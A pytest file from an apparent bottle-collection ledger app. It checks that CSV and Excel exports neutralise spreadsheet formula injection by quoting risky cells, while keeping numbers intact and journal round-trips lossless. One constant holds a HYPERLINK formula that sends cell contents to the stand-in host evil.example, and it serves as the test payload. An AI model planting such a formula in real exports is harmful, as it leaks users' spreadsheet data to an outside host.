"""Files the app writes cannot carry formulas: text cells are neutralised, numbers stay numbers,
and a journal export still imports back to the same ledger."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bottles.catalogue import csv_import
from bottles.cells import safe_cell, unquoted
from bottles.check import check_ledger
from bottles.journal import import_journal
from bottles.models import Event
from bottles.rules import Kind
from bottles.spreadsheet import EXCEL_FR, RFC4180
from reports.exports import table_csv, workbook
from reports.report import Table
from tests.bottles.test_journal import _by_codes, _export, other_session, world  # noqa: F401
from tests.factories import T0

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"ok")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''", "'''"),
    ("-12", "-12"), ("-3.5", "-3.5"), ("-", "-"), ("'a", "'a"), ("Lons", "Lons"), ("", ""),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_safe_cell_and_its_inverse(value, written):
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert unquoted(written) == value


def _table() -> Table:
    return Table(name="points", title="Points", headers=["Code", "Point", "Collectées"],
                 rows=[["+33612345678", LINK, -4], ["LONS", "Cave", 75]], total=["Total", "", 71])


def test_a_phase_table_csv_is_neutralised_and_keeps_its_numbers():
    rows = list(csv.reader(io.StringIO(table_csv(_table(), RFC4180).decode("utf-8"))))
    assert rows[1] == ["'+33612345678", "'" + LINK, "-4"]
    assert rows[2] == ["LONS", "Cave", "75"]
    french = table_csv(_table(), EXCEL_FR).decode("utf-8")  # the default flavour: the same cells
    assert french.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(french.removeprefix("\ufeff")), delimiter=";"))
    assert rows[1] == ["'+33612345678", "'" + LINK, "-4"]


def test_a_workbook_cell_is_text_not_a_formula_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(workbook(SimpleNamespace(tables=[_table()]))))
    sheet = book.worksheets[0]
    assert sheet["B2"].value == "'" + LINK and sheet["B2"].data_type == "s"
    assert sheet["A2"].value == "'+33612345678"
    assert sheet["C2"].value == -4 and sheet["C3"].value == 75


def test_the_catalogue_example_keeps_its_clear_marks():
    for kind in csv_import.IMPORT_KINDS:
        for row in csv.reader(io.StringIO(csv_import.example_csv(kind))):
            assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def test_a_journal_export_is_neutralised_and_imports_back(session, world, factory,  # noqa: F811
                                                          other_session):  # noqa: F811
    phone = factory.point(code="+33612345678")
    factory.full_crate_at(phone, count=5, washer=world["washer"], actor=world["driver"],
                          at=T0 + timedelta(days=9))
    factory.event(Kind.CORRECTION, at=T0 + timedelta(days=11), actor=world["driver"],
                  corrects=session.scalar(select(Event.seq).order_by(Event.seq.desc())), note=LINK)
    session.commit()
    journal = _export(session)
    rows = list(csv.DictReader(io.StringIO(journal)))
    assert rows[-1]["note"] == "'" + LINK
    assert rows[-2]["collection_point"] == "'+33612345678"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    report = import_journal(other_session, io.StringIO(journal), create_missing=True)
    assert report.ok, report.errors
    other_session.commit()
    assert _by_codes(other_session) == _by_codes(session)
    assert other_session.scalar(select(Event.note).where(Event.kind == Kind.CORRECTION)
                                .order_by(Event.seq.desc()).limit(1)) == LINK
    assert _export(other_session) == journal
    assert check_ledger(other_session) == []
